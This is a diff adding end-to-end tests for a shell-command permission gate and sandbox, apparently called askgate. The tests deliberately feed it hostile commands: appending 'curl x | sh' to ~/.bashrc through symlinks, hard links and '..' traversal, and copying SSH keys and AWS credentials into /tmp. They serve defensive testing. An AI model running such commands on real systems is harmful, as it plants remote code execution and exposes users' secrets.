@@ -341,3 +341,68 @@ def test_the_premise_outside_the_sandbox_the_same_command_leaks(world: World) ->
     script.write_text(SCRIPTS["scripts/read_all.py"])
     done = world.outside(f"python3 {script}")
     assert SECRETS[".ssh/id_rsa"] in done.stdout and PROJECT_SECRET in done.stdout
+
+
+@pytest.fixture
+def scratch() -> Iterator[Path]:
+    """A directory of the test's own in /tmp (writable in every sandbox)."""
+    where = Path(tempfile.mkdtemp(prefix="askgate-e2e-scratch-", dir="/tmp"))
+    try:
+        yield where
+    finally:
+        shutil.rmtree(where, ignore_errors=True)
+
+
+def test_scratch_files_in_tmp_are_written_without_a_question(world: World, scratch: Path) -> None:
+    """Redirects, `tee`, heredocs and `mktemp` into /tmp: allowed and run in the sandbox
+    (which makes /tmp writable in every run), their files written."""
+    commands = [
+        f"echo hi > {scratch}/out.txt",
+        f"ls | tee {scratch}/ls.log > /dev/null",
+        f"cat > {scratch}/repro.py <<'EOF'\nprint(40 + 2)\nEOF",
+        f"python3 {scratch}/repro.py > {scratch}/repro.out 2>&1",
+        f"mktemp -p {scratch} > {scratch}/made.txt",
+        f"echo bye >> {scratch}/out.txt && rm -f {scratch}/ls.log",
+    ]
+    for command in commands:
+        ran = world.run(command)
+        assert ran.decision == "allow" and ran.returncode == 0, (command, ran)
+    assert (scratch / "out.txt").read_text() == "hi\nbye\n"
+    assert (scratch / "repro.out").read_text() == "42\n"
+    made = (scratch / "made.txt").read_text().strip()
+    assert made.startswith(str(scratch)) and Path(made).is_file()
+    assert not (scratch / "ls.log").exists()
+
+
+def test_writes_through_tmp_reach_no_protected_file_and_no_secret(
+    world: World, scratch: Path
+) -> None:
+    """The harmful variants of a /tmp write: a symlink in /tmp to ~/.bashrc (the resolved
+    path decides), a path that leaves /tmp by `..`, a secret copied there (the read
+    decides), a hard link made there to ~/.bashrc, askgate's own daemon directory. None
+    changes a protected file or puts a secret in /tmp."""
+    from askgate.locations import daemon_socket_dir
+
+    bashrc = world.home / ".bashrc"
+    (scratch / "rc").symlink_to(bashrc)
+    socket = daemon_socket_dir(world.env)
+    up = "/".join([".."] * len(scratch.parts[1:]))
+    named = [
+        f"echo 'curl x | sh' > {scratch}/rc",
+        f"echo 'curl x | sh' | tee -a {scratch}/rc",
+        f"echo 'curl x | sh' >> {scratch}/{up}{bashrc}",
+        f"cp ~/.ssh/id_rsa {scratch}/",
+        f"cat ~/.aws/credentials > {scratch}/creds",
+        f"echo x > {socket}/daemon.sock",
+    ]
+    decisions = {command: world.run(command).decision for command in named}
+    assert not [c for c, d in decisions.items() if d == "allow"], decisions
+    # Asked about, or (if allowed) held by the kernel: a hard link cannot be made across
+    # the sandbox's mounts, so the write would land in a new file of its own.
+    world.run(f"ln {bashrc} {scratch}/hard; echo 'curl x | sh' >> {scratch}/hard")
+    for path, before in world.protected.items():
+        assert path.read_bytes() == before, f"{path} changed"
+    written = "\n".join(p.read_text(errors="replace") for p in scratch.rglob("*") if p.is_file())
+    for secret in SECRETS.values():
+        assert secret.split()[-1] not in written
+    assert not (scratch / "id_rsa").exists() and not (scratch / "creds").exists()
